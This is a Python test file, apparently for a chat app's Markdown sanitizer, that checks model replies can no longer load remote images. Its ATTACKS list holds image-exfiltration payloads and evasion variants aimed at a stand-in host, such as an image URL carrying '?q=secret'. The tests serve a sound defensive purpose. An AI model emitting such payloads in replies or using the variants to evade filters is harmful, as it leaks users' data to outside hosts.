"""Text shown through Markdown loads nothing: checked with a CommonMark parser (the grammar
Streamlit's renderer follows), for chosen attacks and for any text Hypothesis can make."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from services.markdown_safety import escape_markdown, without_remote_images

MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
FUZZ = settings(max_examples=300, deadline=None, database=None)
ATTACKS = [
    "![](https://host/?q=secret)",
    '![x](https://host/a.png "title")',
    "![x](<https://host/a b.png>)",
    "![x][ref]\n\n[ref]: https://host/r.png",
    "![x]\n\n[x]: https://host/r.png",
    "!![x](https://host/a.png)",
    "\\\\![x](https://host/a.png)",
    "[![x](https://host/in-link.png)](https://host/)",
    "![a [nested] alt](https://host/n.png)",
    "![a](https://host/(paren).png)",
    "<img src='https://host/h.png'>",
    "<p><IMG\nSRC=https://host/h.png></p>",
    "    ```\n![after an indented fence](https://host/a.png)\n```",
]
markdown_text = st.text(
    alphabet=st.sampled_from(list("![]()<>\\`'\" \n*_:/.ahimgsrc=#-")) | st.characters(),
    max_size=60,
)


def images(markdown: str) -> list[str]:
    """Every address the rendered Markdown would load: image tokens and HTML <img> tags."""
    found = []

    def walk(tokens):
        for token in tokens:
            if token.type == "image":
                found.append(token.attrs.get("src", ""))
            if token.type in ("html_inline", "html_block") and "<img" in token.content.lower():
                found.append(token.content)
            walk(token.children or [])

    walk(MD.parse(markdown))
    return found


def shown_text(markdown: str) -> str:
    """The text a reader sees of one paragraph."""
    tokens = MD.parse(markdown)
    inline = [t for t in tokens if t.type == "inline"]
    return "".join(c.content for t in inline for c in t.children or [] if c.type == "text")


@pytest.mark.parametrize("attack", ATTACKS)
def test_replies_keep_no_image(attack):
    assert images(attack)  # the attack is real
    safe = without_remote_images(attack)
    assert images(safe) == []


def test_an_image_becomes_a_link_to_the_same_address():
    safe = without_remote_images("look: ![a cat](https://host/cat.png)")
    links = [
        c.attrs["href"]
        for t in MD.parse(safe)
        if t.children
        for c in t.children
        if c.type == "link_open"
    ]
    assert links == ["https://host/cat.png"] and "a cat" in shown_text(safe)


def test_replies_keep_their_markdown():
    reply = "**bold**, [a link](https://example.com)\n\n- item\n\n`code`"
    assert without_remote_images(reply) == reply


@pytest.mark.parametrize("attack", ATTACKS)
def test_escaped_text_shows_as_typed_and_loads_nothing(attack):
    line = " ".join(attack.split())
    assert images(escape_markdown(line)) == []
    assert shown_text(escape_markdown(line)) == line


def test_streamlit_directives_are_escaped():
    assert escape_markdown(":red[x] :material/home:") == "\\:red\\[x\\] \\:material/home\\:"


@FUZZ
@given(text=markdown_text)
def test_no_text_makes_an_image_after_rewriting(text):
    assert images(without_remote_images(text)) == []


@FUZZ
@given(text=markdown_text)
def test_no_text_makes_an_image_or_a_link_after_escaping(text):
    tokens = MD.parse(escape_markdown(text))
    kinds = {c.type for t in tokens for c in t.children or []} | {t.type for t in tokens}
    assert not kinds & {"image", "link_open", "html_inline", "html_block"}


@FUZZ
@given(
    text=st.text(
        alphabet=st.sampled_from(list("![]()<>\\`'\" *_:/.#-+=|~$&;0123456789ahimg"))
        | st.characters(exclude_categories=("Cc", "Cs")),
        max_size=60,
    ).map(lambda s: " ".join(s.split()))
)
def test_escaped_text_shows_exactly_as_typed(text):
    assert shown_text(escape_markdown(text)) == text


def test_model_ids_stay_readable():
    assert escape_markdown("gpt-4.1-mini") == "gpt-4.1-mini"
    assert escape_markdown("- a\n1. b\n  # c\n---") == "\\- a\n1\\. b\n  \\# c\n\\---"
